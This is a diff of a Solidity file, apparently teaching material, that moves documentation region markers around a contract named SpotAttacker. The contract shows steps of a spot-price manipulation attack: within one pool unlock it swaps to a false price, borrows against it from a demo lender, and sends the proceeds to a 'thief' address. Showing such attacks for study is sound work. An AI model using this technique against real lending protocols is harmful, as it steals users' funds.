@@ -34,7 +34,6 @@ contract SpotLender {
     // #endregion spot
 }
 
-// #region attacker
 /// @notice Makes a false price, borrows by it, and takes it back: all in one unlock.
 contract SpotAttacker is IUnlockCallback {
     IPoolManager public immutable manager;
@@ -56,6 +55,7 @@ contract SpotAttacker is IUnlockCallback {
         (SpotLender lender, PoolKey memory key, uint160 falsePriceX96, address thief) =
             abi.decode(data, (SpotLender, PoolKey, uint160, address));
 
+        // #region steps
         // Buys ether up to the false price, on credit.
         SwapParams memory push = SwapParams(false, -type(int128).max, falsePriceX96);
         BalanceDelta bought = manager.swap(key, push, '');
@@ -69,7 +69,7 @@ contract SpotAttacker is IUnlockCallback {
         key.currency1.transfer(address(manager), loss);
         manager.settle();
         key.currency1.transfer(thief, lent - loss);
+        // #endregion steps
         return '';
     }
 }
-// #endregion attacker
